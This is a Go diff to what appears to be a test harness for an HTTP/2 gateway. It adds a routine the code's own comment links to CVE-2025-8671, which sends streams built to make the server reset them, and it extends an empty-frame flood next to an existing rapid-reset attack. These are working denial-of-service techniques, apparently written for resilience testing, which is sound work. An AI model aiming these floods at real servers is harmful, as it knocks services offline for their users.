@@ -80,9 +80,13 @@ func (e *enemy) listen(c *tally) string {
 
 // head is a header block for the honest user's path, with more fields.
 func (e *enemy) head(path string, more ...hpack.HeaderField) []byte {
+	return e.asking("GET", path, more...)
+}
+
+func (e *enemy) asking(method, path string, more ...hpack.HeaderField) []byte {
 	e.block.Reset()
 	for _, f := range append([]hpack.HeaderField{
-		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: e.bed.address}, {Name: ":path", Value: path},
+		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: e.bed.address}, {Name: ":path", Value: path},
 		{Name: "authorization", Value: "Bearer " + e.bed.token},
 	}, more...) {
 		_ = e.fields.WriteField(f)
@@ -106,6 +110,23 @@ func (b *bed) rapidReset(ctx context.Context, c *tally) {
 			if err := e.WriteRSTStream(e.stream-2, http2.ErrCodeCancel); err != nil {
 				return err
 			}
+		}
+	})
+}
+
+// madeToReset does not reset its streams: it sends what is of none, and the gateway
+// has to. That is CVE-2025-8671.
+func (b *bed) madeToReset(ctx context.Context, c *tally) {
+	b.http2(ctx, c, nil, func(_ context.Context, e *enemy) error {
+		for {
+			block := e.asking([]string{"GET", "HEAD"}[e.stream/2%2], "/large")
+			if err := e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.stream, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
+				return err
+			}
+			if err := e.WriteData(e.stream, false, []byte("x")); err != nil {
+				return err
+			}
+			e.stream += 2
 		}
 	})
 }
@@ -160,7 +181,7 @@ func (b *bed) emptyFrames(ctx context.Context, c *tally) {
 			return err
 		}
 		for ctx.Err() == nil {
-			if err := errors.Join(e.WritePing(false, [8]byte{}), e.WriteSettings(), e.WriteData(1, false, nil), e.WriteRawFrame(0x0a, 0, 0, nil)); err != nil {
+			if err := errors.Join(e.WritePing(false, [8]byte{}), e.WriteSettings(), e.WriteData(1, false, nil), e.WriteDataPadded(1, false, nil, []byte{}), e.WriteRawFrame(0x0a, 0, 0, nil)); err != nil {
 				return err
 			}
 		}
